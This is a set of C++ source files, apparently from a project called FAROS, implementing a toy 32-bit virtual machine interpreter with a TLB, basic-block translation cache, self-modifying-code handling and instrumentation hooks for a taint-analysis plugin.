  /// must re-enter the dispatch loop.
  u64 evict_epoch() const { return evict_epoch_; }

  size_t size() const { return map_.size(); }
  const BlockCacheStats& stats() const { return stats_; }

  /// Longest block body; one page of 8-byte instructions.
  static constexpr u32 kMaxBlockInsns = kPageSize / kInsnSize;
  /// Whole-cache flush threshold (runaway JIT guests).
  static constexpr size_t kMaxBlocks = 1u << 16;

 private:
  static u64 key_of(PAddr cr3, VAddr va) { return (cr3 << 32) | va; }
  void flush_all();

  PhysMem* mem_;
  std::unordered_map<u64, TranslatedBlock> map_;
  // frame index -> keys of blocks whose bytes live there (one page => one
  // frame per block).
  std::unordered_map<u64, std::vector<u64>> by_frame_;
  u64 evict_epoch_ = 0;
  BlockCacheStats stats_;

  // Direct-mapped front cache over map_ lookups; entries are validated by
  // key + epoch so evictions (which bump the epoch) invalidate it wholesale.
  struct Front {
    u64 key = ~0ull;
    u64 epoch = ~0ull;
    TranslatedBlock* block = nullptr;
  };
  static constexpr u32 kFrontSize = 2048;  // power of two
  Front front_[kFrontSize];
};

}  // namespace faros::vm
