#include "vm/cpu.h"

#include <algorithm>
#include <type_traits>

#include "vm/btcache.h"

namespace faros::vm {

namespace {
/// Zero-size stand-in for InsnEvent in the uninstrumented executor, so the
/// fast body pays nothing for event plumbing.
struct NoEvent {};
}  // namespace

const char* trap_kind_name(TrapKind kind) {
  switch (kind) {
    case TrapKind::kNone: return "none";
    case TrapKind::kMemFault: return "memory-fault";
    case TrapKind::kBadOpcode: return "bad-opcode";
    case TrapKind::kDivZero: return "divide-by-zero";
    case TrapKind::kPcMisaligned: return "pc-misaligned";
    case TrapKind::kBreak: return "break";
  }
  return "?";
}

Interpreter::Interpreter(PhysMem& mem)
    : mem_(&mem), btc_(std::make_unique<BlockCache>(mem)) {}

Interpreter::~Interpreter() = default;

void Interpreter::set_block_cache_enabled(bool on) {
  if (on == (btc_ != nullptr)) return;
  btc_ = on ? std::make_unique<BlockCache>(*mem_) : nullptr;
}

void Interpreter::invalidate_code_frame(PAddr frame_base) {
  if (btc_) btc_->evict_frame(frame_base, /*smc=*/false);
}

void Interpreter::evict_cr3_blocks(PAddr cr3) {
  if (btc_) btc_->evict_cr3(cr3);
}

void Interpreter::flush_tlb() {
  for (auto& e : tlb_) e = TlbEntry{};
}

std::optional<PAddr> Interpreter::translate_cached(const AddressSpace& as,
                                                   VAddr va, AccessType type,
                                                   Fault* fault) {
  auto fail = [&](FaultKind kind) -> std::optional<PAddr> {
    if (fault) *fault = Fault{va, kind};
    return std::nullopt;
  };
  const u32 vpn = va >> kPageShift;
  TlbEntry& e = tlb_[vpn & (kTlbSize - 1)];
  if (e.cr3 != as.cr3() || e.vpn != vpn) {
    ++tlb_misses_;
    auto pte = as.lookup_pte(va);
    if (!pte) return fail(FaultKind::kNotMapped);
    e = TlbEntry{as.cr3(), vpn, *pte};
  } else {
    ++tlb_hits_;
  }
  // Guest execution is always user mode: enforce the user protections
  // exactly as AddressSpace::translate does.
  if (!(e.pte & kPteUser)) return fail(FaultKind::kNotUser);
  if (type == AccessType::kWrite && !(e.pte & kPteWrite)) {
    return fail(FaultKind::kProtWrite);
  }
  if (type == AccessType::kExec && !(e.pte & kPteExec)) {
    return fail(FaultKind::kProtExec);
  }
  return (e.pte & ~kPteFlagMask) | page_offset(va);
}

StepInfo Interpreter::run(CpuState& cpu, const AddressSpace& as,
                          u64 max_insns) {
  // Kernel work (map/unmap/protect/process switch) happens between run()
  // calls; translations cached within one quantum are safe.
  flush_tlb();
  if (hooks_) hooks_->on_run_begin();
  if (btc_) return run_blocks(cpu, as, max_insns);
  StepInfo info;
  for (u64 i = 0; i < max_insns; ++i) {
    StepInfo one = exec_one(cpu, as);
    info.executed += one.executed;
    if (one.result != StepResult::kBudget) {
      one.executed = info.executed;
      return one;
    }
  }
  info.result = StepResult::kBudget;
  return info;
}

StepInfo Interpreter::run_blocks(CpuState& cpu, const AddressSpace& as,
                                 u64 max_insns) {
  StepInfo info;
  u64 executed = 0;
  auto stop = [&](StepInfo one) {
    one.executed = executed;
    return one;
  };
  auto entry_trap = [&](VAddr pc, TrapKind kind, const Fault* fault) {
    StepInfo t;
    t.pc = pc;
    t.result = StepResult::kTrap;
    t.trap = kind;
    if (fault) t.fault = *fault;
    at_block_start_ = true;
    return stop(t);
  };
  while (executed < max_insns) {
    const VAddr pc = cpu.pc();
    // Entry checks mirror the per-instruction path: within a block the pc
    // advances by kInsnSize (alignment preserved) and the body stays on the
    // start page (one fetch translation covers it), so checking here is
    // checking every instruction.
    if (pc % kInsnSize != 0) {
      return entry_trap(pc, TrapKind::kPcMisaligned, nullptr);
    }
    Fault fault;
    auto pc_pa = translate_cached(as, pc, AccessType::kExec, &fault);
    if (!pc_pa) return entry_trap(pc, TrapKind::kMemFault, &fault);
    TranslatedBlock* b = btc_->lookup(as.cr3(), pc);
    if (b && b->start_pa != *pc_pa) {
      // Same (cr3, va) now maps elsewhere — remapped since translation.
      btc_->evict_block(as.cr3(), pc);
      b = nullptr;
    }
    if (!b) b = btc_->translate(as.cr3(), pc, *pc_pa);
    if (!b) {
      // First slot undecodable: the same bad-opcode trap the per-insn
      // path raises after a successful fetch.
      return entry_trap(pc, TrapKind::kBadOpcode, nullptr);
    }
    const u32 n = static_cast<u32>(b->insns.size());
    const u32 take = static_cast<u32>(std::min<u64>(n, max_insns - executed));
    StepInfo one;
    if (!hooks_) {
      one = exec_cached<false>(cpu, as, *b, take);
    } else if (take == n && block_elidable(*b, as.cr3(), pc) &&
               hooks_->try_elide_block(as.cr3(), pc, b->start_pa,
                                       b->insns.data(), n)) {
      // The plugin accounted for all n instructions itself; elidable
      // bodies cannot trap (inert opcodes by construction, hint-approved
      // kDivu by the plugin's constant-divisor proof), so all n retire
      // through the fast body.
      one = exec_cached<false>(cpu, as, *b, n);
    } else {
      one = exec_cached<true>(cpu, as, *b, take);
    }
    executed += one.executed;
    if (one.result != StepResult::kBudget) return stop(one);
  }
  info.result = StepResult::kBudget;
  info.executed = executed;
  return info;
}

bool Interpreter::block_elidable(TranslatedBlock& b, PAddr cr3, VAddr pc) {
  if (b.inert) return true;
  if (!b.hint_checked) {
    b.hint_checked = true;
    b.hint_elidable = hooks_->block_elide_hint(
        cr3, pc, b.insns.data(), static_cast<u32>(b.insns.size()));
  }
  return b.hint_elidable;
}

template <bool kInstrumented>
StepInfo Interpreter::exec_cached(CpuState& cpu, const AddressSpace& as,
                                  const TranslatedBlock& block, u32 count) {
  StepInfo info;
  const u64 epoch = btc_->evict_epoch();
  const Instruction* insns = block.insns.data();
  PAddr pa = block.start_pa;
  for (u32 i = 0; i < count; ++i) {
    // Copy before executing: a self-modifying store inside the block may
    // evict `block` (freeing insns) as a side effect of this instruction.
    const Instruction insn = insns[i];
    StepInfo one = exec_decoded<kInstrumented>(cpu, as, insn, pa);
    info.executed += one.executed;
    if (one.result != StepResult::kBudget) {
      one.executed = info.executed;
      return one;
    }
    if (btc_->evict_epoch() != epoch) {
      // A write hit some translated code frame. The predecoded body may be
      // stale from the next instruction on — re-enter the dispatch loop,
      // which re-fetches from live memory (per-instruction semantics).
      break;
    }
    pa += kInsnSize;
  }
  info.result = StepResult::kBudget;
  return info;
}

bool Interpreter::mem_read(const AddressSpace& as, VAddr va, unsigned size,
                           u32* value, PAddr* first_pa, Fault* fault) {
  u32 out = 0;
  for (unsigned i = 0; i < size; ++i) {
    auto pa = translate_cached(as, va + i, AccessType::kRead, fault);
    if (!pa) return false;
    if (i == 0) *first_pa = *pa;
    out |= static_cast<u32>(mem_->read8(*pa)) << (8 * i);
  }
  *value = out;
  return true;
}

bool Interpreter::mem_write(const AddressSpace& as, VAddr va, unsigned size,
                            u32 value, PAddr* first_pa, Fault* fault) {
  // Probe all bytes first so a partially-faulting store has no effect.
  PAddr pas[4] = {};
  for (unsigned i = 0; i < size; ++i) {
    auto pa = translate_cached(as, va + i, AccessType::kWrite, fault);
    if (!pa) return false;
    pas[i] = *pa;
  }
  *first_pa = pas[0];
  for (unsigned i = 0; i < size; ++i) {
    mem_->write8(pas[i], static_cast<u8>((value >> (8 * i)) & 0xff));
  }
  return true;
}

StepInfo Interpreter::exec_one(CpuState& cpu, const AddressSpace& as) {
  StepInfo info;
  info.pc = cpu.pc();

  auto trap = [&](TrapKind kind) {
    info.result = StepResult::kTrap;
    info.trap = kind;
    at_block_start_ = true;
    return info;
  };

  if (cpu.pc() % kInsnSize != 0) return trap(TrapKind::kPcMisaligned);

  // Fetch. Instructions are 8-byte aligned, so a fetch never crosses a page.
  Fault fault;
  auto pc_pa = translate_cached(as, cpu.pc(), AccessType::kExec, &fault);
  if (!pc_pa) {
    info.fault = fault;
    return trap(TrapKind::kMemFault);
  }
  auto decoded = decode(mem_->span(*pc_pa, kInsnSize));
  if (!decoded) return trap(TrapKind::kBadOpcode);
  return exec_decoded<true>(cpu, as, *decoded, *pc_pa);
}

template <bool kInstrumented>
StepInfo Interpreter::exec_decoded(CpuState& cpu, const AddressSpace& as,
                                   const Instruction& insn, PAddr pc_pa) {
  StepInfo info;
  info.pc = cpu.pc();
  Fault fault;

  auto trap = [&](TrapKind kind) {
    info.result = StepResult::kTrap;
    info.trap = kind;
    at_block_start_ = true;
    return info;
  };

  if (at_block_start_) {
    ++block_count_;
    at_block_start_ = false;
    if (hooks_) hooks_->on_block_begin(as.cr3(), cpu.pc());
  }

  std::conditional_t<kInstrumented, InsnEvent, NoEvent> ev;
  if constexpr (kInstrumented) {
    ev.cr3 = as.cr3();
    ev.pc = cpu.pc();
    ev.pc_pa = pc_pa;
    ev.insn = insn;
    ev.rs1_val = cpu.regs[insn.rs1];
    ev.rs2_val = cpu.regs[insn.rs2];
  }

  const u32 next_pc = cpu.pc() + kInsnSize;
  u32 new_pc = next_pc;
  auto& r = cpu.regs;
  const u32 a = cpu.regs[insn.rs1];
  const u32 b = cpu.regs[insn.rs2];

  auto do_load = [&](unsigned size) -> bool {
    VAddr ea = a + insn.imm;
    u32 value = 0;
    PAddr pa = 0;
    if (!mem_read(as, ea, size, &value, &pa, &fault)) return false;
    r[insn.rd] = value;
    if constexpr (kInstrumented) {
      ev.mem = MemAccess{ea, pa, static_cast<u8>(size), /*is_write=*/false};
    }
    return true;
  };
  auto do_store = [&](unsigned size) -> bool {
    VAddr ea = a + insn.imm;
    u32 mask = size == 4 ? 0xffffffffu : (1u << (8 * size)) - 1;
    PAddr pa = 0;
    if (!mem_write(as, ea, size, b & mask, &pa, &fault)) return false;
    if constexpr (kInstrumented) {
      ev.mem = MemAccess{ea, pa, static_cast<u8>(size), /*is_write=*/true};
    }
    return true;
  };
  auto set_flags = [&](u32 x, u32 y) {
    cpu.flag_eq = x == y;
    cpu.flag_lt_u = x < y;
    cpu.flag_lt_s = static_cast<i32>(x) < static_cast<i32>(y);
  };
  auto mem_trap = [&]() {
    info.fault = fault;
    return trap(TrapKind::kMemFault);
  };

  switch (insn.op) {
    case Opcode::kNop: break;
    case Opcode::kHalt:
      info.result = StepResult::kHalt;
      break;
    case Opcode::kMovi: r[insn.rd] = insn.imm; break;
    case Opcode::kMov: r[insn.rd] = a; break;
    case Opcode::kAddPc: r[insn.rd] = next_pc + insn.imm; break;

    case Opcode::kLd8:
      if (!do_load(1)) return mem_trap();
      break;
    case Opcode::kLd16:
      if (!do_load(2)) return mem_trap();
      break;
    case Opcode::kLd32:
      if (!do_load(4)) return mem_trap();
      break;
    case Opcode::kSt8:
      if (!do_store(1)) return mem_trap();
      break;
    case Opcode::kSt16:
      if (!do_store(2)) return mem_trap();
      break;
    case Opcode::kSt32:
      if (!do_store(4)) return mem_trap();
      break;

    case Opcode::kAdd: r[insn.rd] = a + b; break;
    case Opcode::kSub: r[insn.rd] = a - b; break;
    case Opcode::kMul: r[insn.rd] = a * b; break;
    case Opcode::kDivu:
      if (b == 0) return trap(TrapKind::kDivZero);
      r[insn.rd] = a / b;
      break;
    case Opcode::kAnd: r[insn.rd] = a & b; break;
    case Opcode::kOr: r[insn.rd] = a | b; break;
    case Opcode::kXor: r[insn.rd] = a ^ b; break;
    case Opcode::kShl: r[insn.rd] = a << (b & 31); break;
    case Opcode::kShr: r[insn.rd] = a >> (b & 31); break;

    case Opcode::kAddi: r[insn.rd] = a + insn.imm; break;
    case Opcode::kSubi: r[insn.rd] = a - insn.imm; break;
    case Opcode::kMuli: r[insn.rd] = a * insn.imm; break;
    case Opcode::kAndi: r[insn.rd] = a & insn.imm; break;
    case Opcode::kOri: r[insn.rd] = a | insn.imm; break;
    case Opcode::kXori: r[insn.rd] = a ^ insn.imm; break;
    case Opcode::kShli: r[insn.rd] = a << (insn.imm & 31); break;
    case Opcode::kShri: r[insn.rd] = a >> (insn.imm & 31); break;

    case Opcode::kCmp: set_flags(a, b); break;
    case Opcode::kCmpi: set_flags(a, insn.imm); break;

    case Opcode::kJmp: new_pc = next_pc + insn.imm; break;
    case Opcode::kJr: new_pc = a; break;
    case Opcode::kBeq:
      if (cpu.flag_eq) new_pc = next_pc + insn.imm;
      break;
    case Opcode::kBne:
      if (!cpu.flag_eq) new_pc = next_pc + insn.imm;
      break;
    case Opcode::kBlt:
      if (cpu.flag_lt_s) new_pc = next_pc + insn.imm;
      break;
    case Opcode::kBge:
      if (!cpu.flag_lt_s) new_pc = next_pc + insn.imm;
      break;
    case Opcode::kBltu:
      if (cpu.flag_lt_u) new_pc = next_pc + insn.imm;
      break;
    case Opcode::kBgeu:
      if (!cpu.flag_lt_u) new_pc = next_pc + insn.imm;
      break;
    case Opcode::kCall:
      r[LR] = next_pc;
      new_pc = next_pc + insn.imm;
      break;
    case Opcode::kCallr:
      r[LR] = next_pc;
      new_pc = a;
      break;
    case Opcode::kRet: new_pc = r[LR]; break;

    case Opcode::kPush: {
      u32 sp = r[SP] - 4;
      PAddr pa = 0;
      if (!mem_write(as, sp, 4, a, &pa, &fault)) return mem_trap();
      r[SP] = sp;
      if constexpr (kInstrumented) {
        ev.mem = MemAccess{sp, pa, 4, /*is_write=*/true};
      }
      break;
    }
    case Opcode::kPop: {
      u32 value = 0;
      PAddr pa = 0;
      if (!mem_read(as, r[SP], 4, &value, &pa, &fault)) return mem_trap();
      if constexpr (kInstrumented) {
        ev.mem = MemAccess{r[SP], pa, 4, /*is_write=*/false};
      }
      r[insn.rd] = value;
      r[SP] += 4;
      break;
    }

    case Opcode::kSyscall: info.result = StepResult::kSyscall; break;
    case Opcode::kBrk: return trap(TrapKind::kBreak);
  }

  cpu.set_pc(new_pc);
  ++instr_count_;
  info.executed = 1;
  if constexpr (kInstrumented) ev.instr_index = instr_count_;
  if (ends_block(insn.op)) at_block_start_ = true;
  if constexpr (kInstrumented) {
    if (hooks_) hooks_->on_insn_retired(ev, as);
  }
  return info;
}

template StepInfo Interpreter::exec_decoded<true>(CpuState&,
                                                  const AddressSpace&,
                                                  const Instruction&, PAddr);
template StepInfo Interpreter::exec_decoded<false>(CpuState&,
                                                   const AddressSpace&,
                                                   const Instruction&, PAddr);

}  // namespace faros::vm
