// FV32 interpreter with instruction-level analysis hooks — the moral
// equivalent of PANDA's instrumented QEMU: an attached plugin observes every
// retired instruction (grouped into basic blocks) together with its memory
// access, which is all the FAROS taint engine needs.
//
// Execution has two gears. With the block-translation cache enabled (the
// default, see vm/btcache.h) the run loop dispatches whole predecoded basic
// blocks: fetch-translate + decode happen once per block instead of once per
// instruction, and a plugin may approve running taint-inert blocks through
// an uninstrumented fast body (ExecHooks::try_elide_block). With the cache
// disabled the historical per-instruction loop runs unchanged. Both gears
// retire bit-identical architectural state and event streams.
#pragma once

#include <memory>
#include <optional>

#include "common/types.h"
#include "vm/isa.h"
#include "vm/mmu.h"
#include "vm/phys_mem.h"

namespace faros::vm {

class BlockCache;
struct TranslatedBlock;

/// Architectural register state of one hardware thread.
struct CpuState {
  u32 regs[kNumRegs] = {};
  bool flag_eq = false;
  bool flag_lt_s = false;
  bool flag_lt_u = false;

  u32 pc() const { return regs[PC]; }
  void set_pc(u32 v) { regs[PC] = v; }
};

/// Why Interpreter::run returned.
enum class StepResult {
  kBudget,   // instruction budget exhausted (scheduler quantum over)
  kSyscall,  // SYSCALL retired; pc already advanced past it
  kHalt,     // HALT retired
  kTrap,     // the instruction trapped; see TrapKind/Fault
};

enum class TrapKind {
  kNone,
  kMemFault,      // translation/protection failure; Fault has details
  kBadOpcode,
  kDivZero,
  kPcMisaligned,  // pc not 8-byte aligned
  kBreak,         // BRK retired
};

const char* trap_kind_name(TrapKind kind);

struct StepInfo {
  StepResult result = StepResult::kBudget;
  TrapKind trap = TrapKind::kNone;
  Fault fault;       // valid when trap == kMemFault
  VAddr pc = 0;      // pc of the instruction that stopped execution
  u64 executed = 0;  // instructions retired by this run() call
};

/// Memory access performed by a retired instruction.
struct MemAccess {
  VAddr va = 0;
  PAddr pa = 0;  // physical address of the first byte
  u8 size = 0;
  bool is_write = false;
};

/// Everything an analysis plugin learns about one retired instruction.
struct InsnEvent {
  u64 instr_index = 0;  // global retired-instruction counter
  PAddr cr3 = 0;        // address space identity (the process tag source)
  VAddr pc = 0;
  PAddr pc_pa = 0;      // physical address of the instruction bytes
  Instruction insn;
  std::optional<MemAccess> mem;
  u32 rs1_val = 0;  // pre-execution operand values
  u32 rs2_val = 0;
};

/// Plugin interface. Callbacks fire during replay/execution in retirement
/// order; `as` is valid only for the duration of the call.
class ExecHooks {
 public:
  virtual ~ExecHooks() = default;
  /// A run() quantum is starting. Fired once per Interpreter::run call,
  /// after the TLB flush and before any instruction executes. Everything
  /// that happens between quanta — syscall service, monitor events, page
  /// remaps, process lifecycle — is therefore fenced by this callback,
  /// which is what lets the async pipeline invalidate its producer-side
  /// caches at one well-defined point instead of per kernel event.
  virtual void on_run_begin() {}
  /// A new basic block begins at `pc` in the space identified by `cr3`.
  virtual void on_block_begin(PAddr cr3, VAddr pc) {
    (void)cr3;
    (void)pc;
  }
  /// One instruction retired.
  virtual void on_insn_retired(const InsnEvent& ev, const AddressSpace& as) {
    (void)ev;
    (void)as;
  }
  /// Asked once per dispatch of a cached, fully taint-inert basic block
  /// (`count` predecoded instructions at pc/start_pa: no memory ops, no
  /// syscalls, cannot trap). Returning true means the plugin has accounted
  /// for all `count` instructions itself and the interpreter may execute
  /// the block without per-instruction callbacks; on_block_begin still
  /// fires. The default keeps every plugin on the instrumented path.
  virtual bool try_elide_block(PAddr cr3, VAddr pc, PAddr start_pa,
                               const Instruction* insns, u32 count) {
    (void)cr3;
    (void)pc;
    (void)start_pa;
    (void)insns;
    (void)count;
    return false;
  }
  /// Asked at most once per translated block that is *not* fully
  /// taint_inert: does the plugin hold a static proof that this exact
  /// instruction sequence may nevertheless be offered for elision (e.g. a
  /// kDivu whose divisor is a proven non-zero constant)? The verdict is
  /// cached on the TranslatedBlock; SMC evicts and retranslates, so a
  /// changed body is re-asked against its new bytes. Returning true only
  /// makes the block *eligible* — try_elide_block still runs its dynamic
  /// guard on every dispatch.
  virtual bool block_elide_hint(PAddr cr3, VAddr pc,
                                const Instruction* insns, u32 count) {
    (void)cr3;
    (void)pc;
    (void)insns;
    (void)count;
    return false;
  }
};

/// Executes guest instructions. Holds the global instruction counter that
/// record/replay keys on; the counter survives across processes.
///
/// The block cache registers itself as the PhysMem code-write observer, so
/// at most one cache-enabled Interpreter may be attached to a PhysMem at a
/// time (the machine layer guarantees this: one interpreter per machine).
class Interpreter {
 public:
  explicit Interpreter(PhysMem& mem);
  ~Interpreter();

  void set_hooks(ExecHooks* hooks) { hooks_ = hooks; }
  ExecHooks* hooks() const { return hooks_; }

  /// Toggles the block-translation cache (enabled by default). Disabling
  /// restores the historical per-instruction fetch/decode/execute loop.
  void set_block_cache_enabled(bool on);
  bool block_cache_enabled() const { return btc_ != nullptr; }
  /// The live cache, or nullptr when disabled (stats, tests).
  const BlockCache* block_cache() const { return btc_.get(); }

  /// Kernel-driven invalidation: a physical frame was recycled, or an
  /// address space is being destroyed. No-ops when the cache is disabled.
  void invalidate_code_frame(PAddr frame_base);
  void evict_cr3_blocks(PAddr cr3);

  u64 instr_count() const { return instr_count_; }

  /// Runs at most `max_insns` instructions of `cpu` inside `as`.
  StepInfo run(CpuState& cpu, const AddressSpace& as, u64 max_insns);

  /// Number of basic blocks entered so far (for tests/stats).
  u64 block_count() const { return block_count_; }

  u64 tlb_hits() const { return tlb_hits_; }
  u64 tlb_misses() const { return tlb_misses_; }

 private:
  StepInfo exec_one(CpuState& cpu, const AddressSpace& as);

  /// Post-decode execution of one instruction (block-begin bookkeeping,
  /// the opcode switch, retirement). kInstrumented selects whether the
  /// InsnEvent is built and on_insn_retired fired; both variants retire
  /// identical architectural state.
  template <bool kInstrumented>
  StepInfo exec_decoded(CpuState& cpu, const AddressSpace& as,
                        const Instruction& insn, PAddr pc_pa);

  /// Block-dispatch run loop (cache enabled).
  StepInfo run_blocks(CpuState& cpu, const AddressSpace& as, u64 max_insns);

  /// Elision eligibility for a cached block: inert, or hint-approved by
  /// the plugin (ExecHooks::block_elide_hint, asked once per translation).
  bool block_elidable(TranslatedBlock& b, PAddr cr3, VAddr pc);

  /// Executes up to `count` predecoded instructions of a cached block,
  /// stopping early on traps/halt/syscall or when an eviction epoch change
  /// says the predecoded bytes may be stale (self-modifying code).
  template <bool kInstrumented>
  StepInfo exec_cached(CpuState& cpu, const AddressSpace& as,
                       const TranslatedBlock& block, u32 count);

  bool mem_read(const AddressSpace& as, VAddr va, unsigned size, u32* value,
                PAddr* first_pa, Fault* fault);
  bool mem_write(const AddressSpace& as, VAddr va, unsigned size, u32 value,
                 PAddr* first_pa, Fault* fault);

  /// TLB-backed user-mode translation. The TLB is flushed at every run()
  /// entry: page tables only change in kernel context, between quanta.
  std::optional<PAddr> translate_cached(const AddressSpace& as, VAddr va,
                                        AccessType type, Fault* fault);
  void flush_tlb();

  struct TlbEntry {
    PAddr cr3 = ~0ull;
    u32 vpn = 0;
    u32 pte = 0;
  };
  static constexpr u32 kTlbSize = 64;  // direct mapped, power of two

  PhysMem* mem_;
  ExecHooks* hooks_ = nullptr;
  std::unique_ptr<BlockCache> btc_;  // null when the cache is disabled
  u64 instr_count_ = 0;
  u64 block_count_ = 0;
  bool at_block_start_ = true;
  TlbEntry tlb_[kTlbSize];
  u64 tlb_hits_ = 0;
  u64 tlb_misses_ = 0;
};

}  // namespace faros::vm
