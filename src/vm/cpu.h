// FV32 interpreter with instruction-level analysis hooks — the moral
// equivalent of PANDA's instrumented QEMU: an attached plugin observes every
// retired instruction (grouped into basic blocks) together with its memory
// access, which is all the FAROS taint engine needs.
#pragma once

#include <optional>

#include "common/types.h"
#include "vm/isa.h"
#include "vm/mmu.h"
#include "vm/phys_mem.h"

namespace faros::vm {

/// Architectural register state of one hardware thread.
struct CpuState {
  u32 regs[kNumRegs] = {};
  bool flag_eq = false;
  bool flag_lt_s = false;
  bool flag_lt_u = false;

  u32 pc() const { return regs[PC]; }
  void set_pc(u32 v) { regs[PC] = v; }
};

/// Why Interpreter::run returned.
enum class StepResult {
  kBudget,   // instruction budget exhausted (scheduler quantum over)
  kSyscall,  // SYSCALL retired; pc already advanced past it
  kHalt,     // HALT retired
  kTrap,     // the instruction trapped; see TrapKind/Fault
};

enum class TrapKind {
  kNone,
  kMemFault,      // translation/protection failure; Fault has details
  kBadOpcode,
  kDivZero,
  kPcMisaligned,  // pc not 8-byte aligned
  kBreak,         // BRK retired
};

const char* trap_kind_name(TrapKind kind);

struct StepInfo {
  StepResult result = StepResult::kBudget;
  TrapKind trap = TrapKind::kNone;
  Fault fault;       // valid when trap == kMemFault
  VAddr pc = 0;      // pc of the instruction that stopped execution
  u64 executed = 0;  // instructions retired by this run() call
};

/// Memory access performed by a retired instruction.
struct MemAccess {
  VAddr va = 0;
  PAddr pa = 0;  // physical address of the first byte
  u8 size = 0;
  bool is_write = false;
};

/// Everything an analysis plugin learns about one retired instruction.
struct InsnEvent {
  u64 instr_index = 0;  // global retired-instruction counter
  PAddr cr3 = 0;        // address space identity (the process tag source)
  VAddr pc = 0;
  PAddr pc_pa = 0;      // physical address of the instruction bytes
  Instruction insn;
  std::optional<MemAccess> mem;
  u32 rs1_val = 0;  // pre-execution operand values
  u32 rs2_val = 0;
};

/// Plugin interface. Callbacks fire during replay/execution in retirement
/// order; `as` is valid only for the duration of the call.
class ExecHooks {
 public:
  virtual ~ExecHooks() = default;
  /// A new basic block begins at `pc` in the space identified by `cr3`.
  virtual void on_block_begin(PAddr cr3, VAddr pc) {
    (void)cr3;
    (void)pc;
  }
  /// One instruction retired.
  virtual void on_insn_retired(const InsnEvent& ev, const AddressSpace& as) {
    (void)ev;
    (void)as;
  }
};

/// Executes guest instructions. Holds the global instruction counter that
/// record/replay keys on; the counter survives across processes.
class Interpreter {
 public:
  explicit Interpreter(PhysMem& mem) : mem_(&mem) {}

  void set_hooks(ExecHooks* hooks) { hooks_ = hooks; }
  ExecHooks* hooks() const { return hooks_; }

  u64 instr_count() const { return instr_count_; }

  /// Runs at most `max_insns` instructions of `cpu` inside `as`.
  StepInfo run(CpuState& cpu, const AddressSpace& as, u64 max_insns);

  /// Number of basic blocks entered so far (for tests/stats).
  u64 block_count() const { return block_count_; }

  u64 tlb_hits() const { return tlb_hits_; }
  u64 tlb_misses() const { return tlb_misses_; }

 private:
  StepInfo exec_one(CpuState& cpu, const AddressSpace& as);

  bool mem_read(const AddressSpace& as, VAddr va, unsigned size, u32* value,
                PAddr* first_pa, Fault* fault);
  bool mem_write(const AddressSpace& as, VAddr va, unsigned size, u32 value,
                 PAddr* first_pa, Fault* fault);

  /// TLB-backed user-mode translation. The TLB is flushed at every run()
  /// entry: page tables only change in kernel context, between quanta.
  std::optional<PAddr> translate_cached(const AddressSpace& as, VAddr va,
                                        AccessType type, Fault* fault);
  void flush_tlb();

  struct TlbEntry {
    PAddr cr3 = ~0ull;
    u32 vpn = 0;
    u32 pte = 0;
  };
  static constexpr u32 kTlbSize = 64;  // direct mapped, power of two

  PhysMem* mem_;
  ExecHooks* hooks_ = nullptr;
  u64 instr_count_ = 0;
  u64 block_count_ = 0;
  bool at_block_start_ = true;
  TlbEntry tlb_[kTlbSize];
  u64 tlb_hits_ = 0;
  u64 tlb_misses_ = 0;
};

}  // namespace faros::vm
