#include "vm/isa.h"

#include "common/strings.h"

namespace faros::vm {

namespace {

struct OpInfo {
  const char* name;
  bool valid;
};

OpInfo op_info(u8 op) {
  switch (static_cast<Opcode>(op)) {
    case Opcode::kNop: return {"nop", true};
    case Opcode::kHalt: return {"halt", true};
    case Opcode::kMovi: return {"movi", true};
    case Opcode::kMov: return {"mov", true};
    case Opcode::kAddPc: return {"addpc", true};
    case Opcode::kLd8: return {"ld8", true};
    case Opcode::kLd16: return {"ld16", true};
    case Opcode::kLd32: return {"ld32", true};
    case Opcode::kSt8: return {"st8", true};
    case Opcode::kSt16: return {"st16", true};
    case Opcode::kSt32: return {"st32", true};
    case Opcode::kAdd: return {"add", true};
    case Opcode::kSub: return {"sub", true};
    case Opcode::kMul: return {"mul", true};
    case Opcode::kDivu: return {"divu", true};
    case Opcode::kAnd: return {"and", true};
    case Opcode::kOr: return {"or", true};
    case Opcode::kXor: return {"xor", true};
    case Opcode::kShl: return {"shl", true};
    case Opcode::kShr: return {"shr", true};
    case Opcode::kAddi: return {"addi", true};
    case Opcode::kSubi: return {"subi", true};
    case Opcode::kMuli: return {"muli", true};
    case Opcode::kAndi: return {"andi", true};
    case Opcode::kOri: return {"ori", true};
    case Opcode::kXori: return {"xori", true};
    case Opcode::kShli: return {"shli", true};
    case Opcode::kShri: return {"shri", true};
    case Opcode::kCmp: return {"cmp", true};
    case Opcode::kCmpi: return {"cmpi", true};
    case Opcode::kJmp: return {"jmp", true};
    case Opcode::kJr: return {"jr", true};
    case Opcode::kBeq: return {"beq", true};
    case Opcode::kBne: return {"bne", true};
    case Opcode::kBlt: return {"blt", true};
    case Opcode::kBge: return {"bge", true};
    case Opcode::kBltu: return {"bltu", true};
    case Opcode::kBgeu: return {"bgeu", true};
    case Opcode::kCall: return {"call", true};
    case Opcode::kCallr: return {"callr", true};
    case Opcode::kRet: return {"ret", true};
    case Opcode::kPush: return {"push", true};
    case Opcode::kPop: return {"pop", true};
    case Opcode::kSyscall: return {"syscall", true};
    case Opcode::kBrk: return {"brk", true};
  }
  return {"???", false};
}

}  // namespace

bool opcode_valid(u8 op) { return op_info(op).valid; }

const char* opcode_name(Opcode op) { return op_info(static_cast<u8>(op)).name; }

const char* reg_name(u8 r) {
  static const char* names[] = {"r0", "r1", "r2",  "r3",  "r4",  "r5",
                                "r6", "r7", "r8",  "r9",  "r10", "r11",
                                "r12", "sp", "lr", "pc"};
  return r < kNumRegs ? names[r] : "r?";
}

void encode(const Instruction& insn, Bytes& out) {
  out.push_back(static_cast<u8>(insn.op));
  out.push_back(insn.rd);
  out.push_back(insn.rs1);
  out.push_back(insn.rs2);
  out.push_back(static_cast<u8>(insn.imm & 0xff));
  out.push_back(static_cast<u8>((insn.imm >> 8) & 0xff));
  out.push_back(static_cast<u8>((insn.imm >> 16) & 0xff));
  out.push_back(static_cast<u8>((insn.imm >> 24) & 0xff));
}

std::optional<Instruction> decode(ByteSpan bytes) {
  if (bytes.size() < kInsnSize) return std::nullopt;
  if (!opcode_valid(bytes[0])) return std::nullopt;
  Instruction insn;
  insn.op = static_cast<Opcode>(bytes[0]);
  insn.rd = bytes[1];
  insn.rs1 = bytes[2];
  insn.rs2 = bytes[3];
  insn.imm = static_cast<u32>(bytes[4]) | (static_cast<u32>(bytes[5]) << 8) |
             (static_cast<u32>(bytes[6]) << 16) |
             (static_cast<u32>(bytes[7]) << 24);
  if (insn.rd >= kNumRegs || insn.rs1 >= kNumRegs || insn.rs2 >= kNumRegs) {
    return std::nullopt;
